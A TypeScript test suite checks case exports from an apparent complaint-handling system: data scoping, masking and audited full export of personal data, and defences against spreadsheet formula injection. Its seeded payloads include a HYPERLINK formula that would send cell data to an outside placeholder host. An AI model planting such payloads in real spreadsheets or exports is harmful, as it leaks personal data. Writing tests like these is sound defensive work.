import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import mongoose from 'mongoose';
import { seed } from '../../bff/src/seed';
import { insertCases } from '../../bff/src/seed/cases';
import { COLUMNS, ANONYMOUS, beijingTime } from '../../bff/src/modules/export/export.columns';
import { caseField, casePlace } from '../../bff/src/modules/complaints/case-seal';
import { STATUS_LABELS, type ComplaintStatus } from '../../shared/complaint/status';
import { startHarness, type Harness } from '../support/harness';
import { createStaff, insertCase, signIn, STAFF_PASSWORD, type StaffClient } from '../support/handling';
import { parseCsv } from '../support/csv';

let h: Harness;
let demo: StaffClient;
let haidian: StaffClient;
let bjSuper: StaffClient;
let shSuper: StaffClient;
let admin: StaffClient;
let reauth: StaffClient;
const FULL_MAX_ROWS = 40;

beforeAll(async () => {
  h = await startHarness({ EXPORT_FULL_MAX_ROWS: String(FULL_MAX_ROWS) });
  await seed(h.deps, { staffPassword: STAFF_PASSWORD });
  await insertCases(h.deps, { count: 300, seed: 2026 });
  await createStaff(h, { username: 'hd-handler', role: 'handler', bureauCode: '110108', regionPrefix: '110108' });
  await createStaff(h, { username: 'bj-super', role: 'supervisor', bureauCode: '110105', regionPrefix: '11' });
  await createStaff(h, { username: 'sh-super', role: 'supervisor', bureauCode: '310104', regionPrefix: '31' });
  await createStaff(h, { username: 'root', role: 'admin', bureauCode: '110105', regionPrefix: '' });
  await createStaff(h, { username: 'cy-reauth', role: 'handler', bureauCode: '110105', regionPrefix: '110105' });
  [demo, haidian, bjSuper, shSuper, admin, reauth] = await Promise.all(['demo', 'hd-handler', 'bj-super', 'sh-super', 'root', 'cy-reauth'].map((u) => signIn(h, u)));
});
afterAll(() => h.close());

interface Download {
  status: number;
  headers: Headers;
  bytes: Buffer;
}

/** Downloads an export and waits until the server has recorded its end (a moment after the last byte). */
async function download(client: StaffClient, query: string, path = '/admin/export'): Promise<Download> {
  const res = await fetch(`${h.url}/api/v1${path}${query ? `?${query}` : ''}`, { headers: { cookie: client.cookie } });
  const bytes = Buffer.from(await res.arrayBuffer());
  const id = res.headers.get('x-export-id');
  for (let tries = 0; id && tries < 100; tries += 1) {
    const p = await client.get(`/admin/export/progress/${id}`);
    if (['done', 'aborted', 'failed'].includes(p.body.state)) break;
    await new Promise((r) => setTimeout(r, 50));
  }
  return { status: res.status, headers: res.headers, bytes };
}

async function csvOf(client: StaffClient, query = '') {
  const res = await download(client, `format=csv${query ? `&${query}` : ''}`);
  expect(res.status).toBe(200);
  const [header, ...rows] = parseCsv(res.bytes.toString('utf8'));
  expect(header).toEqual(COLUMNS.map((c) => c.header));
  return { res, rows, numbers: rows.map((r) => r[0]) };
}

type Lean = {
  _id: mongoose.Types.ObjectId;
  number: string;
  status: string;
  bureauCode: string;
  anonymous?: boolean;
  respondent: { name: string };
  business?: { amountCents: number };
  timeline: Array<{ at: Date; action: string }>;
  complainant?: { nameMasked?: string; phoneMasked?: string; nameSealed?: string; phoneSealed?: string; idNumberSealed?: string };
};
const casesWhere = (filter: Record<string, unknown> = {}) => h.deps.models.Case.find(filter).lean<Lean[]>();
const numbersWhere = async (filter: Record<string, unknown> = {}) => new Set((await casesWhere(filter)).map((d) => d.number));
const exportAudits = () => h.deps.models.AuditEntry.find({ action: 'export' }).sort({ at: 1 }).lean<Array<{ username: string; target: string; detail: string }>>();
const col = (header: string) => COLUMNS.findIndex((c) => c.header === header);

describe('CSV export', () => {
  it('sends UTF-8 with a byte order mark, a Chinese file name and the row count, and every case of the handler\'s bureau', async () => {
    const { res, rows, numbers } = await csvOf(demo);
    expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const disposition = res.headers.get('content-disposition')!;
    expect(disposition).toMatch(/^attachment; filename="cases-\d{8}-\d{4}\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toMatch(/^案件导出-\d{8}-\d{4}\.csv$/);
    const expected = await numbersWhere({ bureauCode: '110105' });
    expect(expected.size).toBeGreaterThan(5);
    expect(new Set(numbers)).toEqual(expected);
    expect(numbers).toHaveLength(expected.size);
    expect(res.headers.get('x-export-total')).toBe(String(expected.size));
    expect(rows.every((r) => r[col('承办单位')] === '北京市朝阳区市场监督管理局')).toBe(true);
  });

  it('writes each case as the columns say: labels in Chinese, yuan with two decimals, masked contact details', async () => {
    const { rows } = await csvOf(demo, 'type=complaint');
    const docs = new Map((await casesWhere({ bureauCode: '110105', type: 'complaint' })).map((d) => [d.number, d]));
    expect(rows.length).toBe(docs.size);
    for (const r of rows) {
      const d = docs.get(r[0])!;
      expect(r[col('类型')]).toBe('投诉');
      expect(r[col('状态')]).toBe(STATUS_LABELS[d.status as ComplaintStatus]);
      expect(r[col('被投诉/举报对象')]).toBe(d.respondent.name);
      expect(r[col('金额(元)')]).toBe((d.business!.amountCents / 100).toFixed(2));
      expect(r[col('投诉/举报人')]).toBe(d.complainant!.nameMasked);
      expect(r[col('联系电话')]).toBe(d.complainant!.phoneMasked);
      expect(r[col('接收时间')]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
      expect(['是', '否']).toContain(r[col('是否超期')]);
      // The step into the final state, not the feedback the consumer gave afterwards.
      const final = d.timeline.find((t) => ['close', 'reject', 'withdraw'].includes(t.action));
      expect(r[col('办结时间')]).toBe(final ? beijingTime(final.at) : '');
    }
  });

  it('shows 匿名 for anonymous reports and never a plain phone number or ID number by default', async () => {
    const { res, rows } = await csvOf(admin);
    const docs = await casesWhere();
    const anonymous = docs.filter((d) => d.anonymous);
    expect(anonymous.length).toBeGreaterThan(0);
    for (const d of anonymous) {
      const row = rows.find((r) => r[0] === d.number)!;
      expect([row[col('投诉/举报人')], row[col('联系电话')]]).toEqual([ANONYMOUS, ANONYMOUS]);
    }
    const text = res.bytes.toString('utf8');
    for (const d of docs.filter((x) => x.complainant?.phoneSealed)) {
      expect(text).not.toContain(h.deps.pii.open(d.complainant!.phoneSealed!, casePlace(d._id, caseField.complainant('phone'))));
      if (d.complainant!.idNumberSealed) expect(text).not.toContain(h.deps.pii.open(d.complainant!.idNumberSealed, casePlace(d._id, caseField.complainant('idNumber'))));
    }
  });
});

describe('scope and filters', () => {
  it.each([
    ['a handler of 海淀', () => haidian, { bureauCode: '110108' }],
    ['the Beijing supervisor', () => bjSuper, { bureauCode: mongoose.trusted({ $regex: '^11' }) }],
    ['the Shanghai supervisor', () => shSuper, { bureauCode: mongoose.trusted({ $regex: '^31' }) }],
    ['an admin', () => admin, {}],
  ])('%s gets exactly the cases in scope', async (_who, client, filter) => {
    const { numbers } = await csvOf(client());
    expect(new Set(numbers)).toEqual(await numbersWhere(filter));
  });

  it('intersects the queue\'s filters with the scope: another region gives nothing, a status only those cases', async () => {
    expect((await csvOf(bjSuper, 'region=31')).rows).toEqual([]);
    const closed = await csvOf(bjSuper, 'status=closed&type=complaint');
    expect(new Set(closed.numbers)).toEqual(await numbersWhere({ bureauCode: mongoose.trusted({ $regex: '^11' }), status: 'closed', type: 'complaint' }));
    const overdue = await csvOf(admin, 'overdue=true');
    expect(new Set(overdue.numbers)).toEqual(await numbersWhere({ deadlineState: 'overdue' }));
    expect(overdue.rows.every((r) => r[col('是否超期')] === '是')).toBe(true);
  });

  it('gives the same cases as the queue for the same filters', async () => {
    const query = 'category=goods&from=2026-01-01';
    const list = await admin.get(`/admin/cases?${query}&pageSize=100`);
    const { numbers } = await csvOf(admin, query);
    expect(numbers).toHaveLength(list.body.total);
    for (const item of list.body.items) expect(numbers).toContain(item.number);
  });
});

/** Full data: a purpose and the password again get a single-use ticket; the file is downloaded with it. */
const PURPOSE = { category: 'mediation', text: '调解中需电话联系投诉人核实退款情况' };
const authorise = (client: StaffClient, body: Record<string, unknown> = {}) =>
  client.post('/admin/export/full', { format: 'csv', purpose: PURPOSE, password: STAFF_PASSWORD, ...body });
const downloadFull = (client: StaffClient, ticket: string) => download(client, '', `/admin/export/full/${ticket}`);

async function fullCsvOf(client: StaffClient, filters: Record<string, unknown> = {}) {
  const granted = await authorise(client, { filters });
  expect(granted.status).toBe(201);
  const res = await downloadFull(client, granted.body.ticket);
  expect(res.status).toBe(200);
  const [header, ...rows] = parseCsv(res.bytes.toString('utf8'));
  expect(header).toEqual(COLUMNS.map((c) => c.header));
  return { granted: granted.body, res, rows };
}

describe('personal data in full', () => {
  it('opens name and phone for a handler who states a purpose and gives the password again, but never the ID number', async () => {
    const { granted, res, rows } = await fullCsvOf(demo, { type: 'complaint' });
    const docs = await casesWhere({ bureauCode: '110105', type: 'complaint' });
    expect(granted).toEqual({ ticket: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/), exportId: expect.any(String), total: docs.length, expiresInS: 60 });
    expect(rows).toHaveLength(docs.length);
    for (const d of docs) {
      const row = rows.find((r) => r[0] === d.number)!;
      expect(row[col('投诉/举报人')]).toBe(h.deps.pii.open(d.complainant!.nameSealed!, casePlace(d._id, caseField.complainant('name'))));
      expect(row[col('联系电话')]).toBe(h.deps.pii.open(d.complainant!.phoneSealed!, casePlace(d._id, caseField.complainant('phone'))));
      expect(res.bytes.toString('utf8')).not.toContain(h.deps.pii.open(d.complainant!.idNumberSealed!, casePlace(d._id, caseField.complainant('idNumber'))));
    }
  });

  it('audits the purpose when the ticket is given, when the file starts and when it is complete', async () => {
    const { granted } = await fullCsvOf(demo, { status: 'closed' });
    const entries = (await exportAudits()).filter((e) => e.target === granted.exportId);
    expect(entries.map((e) => [e.username, JSON.parse(e.detail)])).toEqual([
      ['demo', { state: 'authorised', format: 'csv', personal: 'full', total: granted.total, filters: { status: 'closed' }, purpose: PURPOSE }],
      ['demo', { state: 'started', format: 'csv', personal: 'full', total: granted.total, filters: { status: 'closed' }, purpose: PURPOSE }],
      ['demo', { state: 'completed', rows: granted.total, format: 'csv', personal: 'full', total: granted.total, filters: { status: 'closed' }, purpose: PURPOSE }],
    ]);
  });

  it('lets a supervisor export in full too, as a workbook', async () => {
    const granted = await authorise(bjSuper, { format: 'xlsx', filters: { type: 'complaint', status: 'closed' } });
    expect(granted.status).toBe(201);
    const res = await downloadFull(bjSuper, granted.body.ticket);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it.each([
    ['no purpose', { purpose: undefined }, 'purpose'],
    ['a purpose without words', { purpose: { category: 'other', text: '   ' } }, 'purpose.text'],
    ['a purpose too short to say anything', { purpose: { category: 'other', text: '导出' } }, 'purpose.text'],
    ['a purpose longer than 200 characters', { purpose: { category: 'other', text: '联'.repeat(201) } }, 'purpose.text'],
    ['an unknown purpose category', { purpose: { category: 'curiosity', text: '想看看都有谁投诉了' } }, 'purpose.category'],
    ['no password', { password: undefined }, 'password'],
    ['an empty password', { password: '' }, 'password'],
  ])('refuses %s with 400, gives no ticket and audits no export', async (_what, change, field) => {
    const before = (await exportAudits()).length;
    const res = await authorise(demo, change);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('VALIDATION_FAILED');
    expect(res.body.error.fields.map((f: { path: string }) => f.path)).toContain(field);
    expect(res.body.ticket).toBeUndefined();
    expect(await exportAudits()).toHaveLength(before);
  });

  it('refuses personal=full in the download link: full data is never asked for in a query string', async () => {
    const before = (await exportAudits()).length;
    const res = await download(demo, 'format=csv&personal=full');
    expect(res.status).toBe(400);
    expect(res.headers.get('content-disposition')).toBeNull();
    const body = JSON.parse(res.bytes.toString('utf8'));
    expect(body.error.fields).toEqual([{ path: 'personal', message: expect.stringContaining('填写用途') }]);
    expect(await exportAudits()).toHaveLength(before);
  });

  it('refuses an admin with 403 before looking at the password, without a ticket or an audit entry', async () => {
    const before = (await exportAudits()).length;
    const res = await authorise(admin);
    expect(res.status).toBe(403);
    expect(res.body).toEqual({ error: { code: 'ROLE_FORBIDDEN', message: expect.stringContaining('管理员') } });
    expect(await exportAudits()).toHaveLength(before);
  });

  it('refuses a wrong password with 403, counts it in the audit log, and stops confirming after five', async () => {
    const before = (await exportAudits()).length;
    const failures = () => h.deps.models.AuditEntry.find({ action: 'export_reauth_failed', username: 'cy-reauth' }).lean();
    for (let n = 1; n <= 4; n += 1) {
      const res = await authorise(reauth, { password: 'not-my-password' });
      expect(res.status).toBe(403);
      expect(res.body.error).toEqual({ code: 'REAUTH_FAILED', message: `密码不正确，还可以再试 ${5 - n} 次` });
      expect(res.body.ticket).toBeUndefined();
    }
    expect((await failures()).map((e) => JSON.parse(e.detail!).failures)).toEqual([1, 2, 3, 4]);
    const fifth = await authorise(reauth, { password: 'not-my-password' });
    expect(fifth.status).toBe(429);
    expect(fifth.body.error.code).toBe('REAUTH_LOCKED');
    // Now even the right password is refused until the window ends.
    const right = await authorise(reauth);
    expect(right.status).toBe(429);
    expect(right.body.error.code).toBe('REAUTH_LOCKED');
    expect(await failures()).toHaveLength(5);
    expect(await exportAudits()).toHaveLength(before);
    // Another staff member is not affected.
    expect((await authorise(haidian)).status).toBe(201);
  });

  it('checks at most five of many wrong passwords sent at once', async () => {
    await createStaff(h, { username: 'cy-parallel', role: 'handler', bureauCode: '110105', regionPrefix: '110105' });
    const client = await signIn(h, 'cy-parallel');
    const replies = await Promise.all(Array.from({ length: 8 }, () => authorise(client, { password: 'guess-in-parallel' })));
    const codes = replies.map((r) => r.body.error.code).sort();
    expect(codes).toEqual([...Array(4).fill('REAUTH_FAILED'), ...Array(4).fill('REAUTH_LOCKED')]);
    expect(await h.deps.models.AuditEntry.countDocuments({ action: 'export_reauth_failed', username: 'cy-parallel' })).toBe(5);
  });

  it('refuses a selection over the row cap up front, with the count and a request to narrow the filter', async () => {
    const inScope = (await casesWhere({ bureauCode: mongoose.trusted({ $regex: '^11' }) })).length;
    expect(inScope).toBeGreaterThan(FULL_MAX_ROWS);
    const before = (await exportAudits()).length;
    const res = await authorise(bjSuper);
    expect(res.status).toBe(422);
    expect(res.body.error).toEqual({
      code: 'EXPORT_TOO_LARGE',
      message: `筛选结果共 ${inScope} 件，超过导出完整信息的上限 ${FULL_MAX_ROWS} 件，请缩小筛选范围（如日期、状态）后再导出`,
      total: inScope,
      limit: FULL_MAX_ROWS,
    });
    expect(await exportAudits()).toHaveLength(before);
  });

  it('takes a ticket once, only from the one it was given to', async () => {
    const granted = await authorise(haidian, { filters: { status: 'closed' } });
    const other = await downloadFull(demo, granted.body.ticket);
    expect(other.status).toBe(410);
    expect(JSON.parse(other.bytes.toString('utf8')).error.code).toBe('EXPORT_TICKET_INVALID');
    expect((await downloadFull(haidian, granted.body.ticket)).status).toBe(200);
    const again = await downloadFull(haidian, granted.body.ticket);
    expect(again.status).toBe(410);
    expect(JSON.parse(again.bytes.toString('utf8')).error.code).toBe('EXPORT_TICKET_INVALID');
    expect((await downloadFull(haidian, 'A'.repeat(43))).status).toBe(410);
    expect((await downloadFull(haidian, 'short')).status).toBe(400);
  });

  it('lets a ticket expire after a minute', async () => {
    const granted = await authorise(haidian);
    const keys = await h.deps.redis.keys(`${h.deps.config.redisPrefix}export-ticket*`);
    const ttls = await Promise.all(keys.map((k) => h.deps.redis.ttl(k)));
    expect(ttls.length).toBeGreaterThan(0);
    expect(ttls.every((t) => t > 0 && t <= 60)).toBe(true);
    // What Redis holds is not the ticket itself.
    expect(keys.some((k) => k.includes(granted.body.ticket))).toBe(false);
  });
});

describe('formulas in the data', () => {
  const FORMULAS = [
    '=HYPERLINK("http://x/?"&A2,"点此")',
    '+1+2',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
  ];
  let numbers: string[];

  beforeAll(async () => {
    numbers = [];
    for (const name of FORMULAS) {
      numbers.push(
        await insertCase(h, {
          owner: { userId: new mongoose.Types.ObjectId().toString(), platform: 'wechat' },
          bureauCode: '110108',
          type: 'report',
          respondentName: name,
          extra: { anonymous: true, business: { productName: name } },
        }),
      );
    }
  });

  it('writes each such text with a leading single quote in the CSV', async () => {
    const { rows } = await csvOf(haidian);
    for (const [i, number] of numbers.entries()) {
      const row = rows.find((r) => r[0] === number)!;
      expect([row[col('被投诉/举报对象')], row[col('商品或服务')]]).toEqual([`'${FORMULAS[i]}`, `'${FORMULAS[i]}`]);
    }
  });

  it('writes each such text as a plain string with a leading single quote in the workbook, never a formula', async () => {
    const res = await download(haidian, 'format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.bytes as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('案件')!;
    const byNumber = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row) => byNumber.set(String(row.getCell(1).value), row));
    for (const [i, number] of numbers.entries()) {
      const cell = byNumber.get(number)!.getCell(col('被投诉/举报对象') + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML reads a carriage return as a line feed.
      expect(cell.value).toBe(`'${FORMULAS[i]}`.replace(/\r/g, '\n'));
    }
    // Nothing in the file is a formula.
    const types = new Set<ExcelJS.ValueType>();
    sheet.eachRow((row) => row.eachCell((cell) => types.add(cell.type)));
    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false);
    expect(types.has(ExcelJS.ValueType.String)).toBe(true);
  });

  it('leaves ordinary texts and numbers as they are', async () => {
    const { rows } = await csvOf(haidian);
    const docs = await casesWhere({ bureauCode: '110108', anonymous: mongoose.trusted({ $ne: true }) });
    for (const d of docs) {
      const row = rows.find((r) => r[0] === d.number)!;
      expect(row[col('被投诉/举报对象')]).toBe(d.respondent.name);
    }
  });
});

describe('XLSX export', () => {
  it('writes a workbook with the same header and rows, amounts as numbers', async () => {
    const res = await download(demo, 'format=xlsx');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(decodeURIComponent(res.headers.get('content-disposition')!.split("UTF-8''")[1])).toMatch(/\.xlsx$/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.bytes as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('案件')!;
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(COLUMNS.map((c) => c.header));
    const docs = new Map((await casesWhere({ bureauCode: '110105' })).map((d) => [d.number, d]));
    expect(sheet.rowCount - 1).toBe(docs.size);
    for (let n = 2; n <= sheet.rowCount; n += 1) {
      const row = values(n);
      const d = docs.get(row[0] as string)!;
      expect(d).toBeDefined();
      if (d.business) expect(row[col('金额(元)')]).toBeCloseTo(d.business.amountCents / 100, 2);
      expect(row[col('状态')]).toBe(STATUS_LABELS[d.status as ComplaintStatus]);
    }
  });
});

describe('audit and progress', () => {
  it('records the start and the completion with the row count, and keeps progress for the one who exported', async () => {
    const exportId = randomUUID();
    const { rows } = await csvOf(haidian, `status=closed&exportId=${exportId}`);
    const entries = (await exportAudits()).filter((e) => e.target === exportId);
    expect(entries.map((e) => [e.username, JSON.parse(e.detail)])).toEqual([
      ['hd-handler', { state: 'started', format: 'csv', personal: 'masked', total: rows.length, filters: { status: 'closed' } }],
      ['hd-handler', { state: 'completed', rows: rows.length, format: 'csv', personal: 'masked', total: rows.length, filters: { status: 'closed' } }],
    ]);
    const progress = await haidian.get(`/admin/export/progress/${exportId}`);
    expect(progress.status).toBe(200);
    expect(progress.body).toEqual({ exportId, format: 'csv', total: rows.length, done: rows.length, state: 'done' });
    for (const other of [demo, admin]) {
      const res = await other.get(`/admin/export/progress/${exportId}`);
      expect(res.status).toBe(404);
      expect(res.body.error.code).toBe('EXPORT_NOT_FOUND');
    }
    expect((await haidian.get(`/admin/export/progress/${randomUUID()}`)).status).toBe(404);
    expect((await haidian.get('/admin/export/progress/not-a-uuid')).status).toBe(400);
  });

  it.each([
    ['an unknown format', 'format=pdf'],
    ['no format', 'status=closed'],
    ['an unknown filter', 'format=csv&sort=due_asc'],
    ['a bad status', 'format=csv&status=lost'],
    ['a date that does not exist', 'format=csv&from=2026-02-30'],
    ['a bad personal option', 'format=csv&personal=all'],
    ['an export id that is not a UUID', 'format=csv&exportId=abc'],
  ])('answers %s with 400, writes no file and audits nothing', async (_what, query) => {
    const before = (await exportAudits()).length;
    const res = await download(demo, query);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-disposition')).toBeNull();
    const body = JSON.parse(res.bytes.toString('utf8'));
    expect(body.error.code).toBe('VALIDATION_FAILED');
    expect(body.error.message).toMatch(/[\u4e00-\u9fa5]/);
    expect(await exportAudits()).toHaveLength(before);
  });

  it('asks for a staff session', async () => {
    const res = await fetch(`${h.url}/api/v1/admin/export?format=csv`);
    expect(res.status).toBe(401);
  });
});
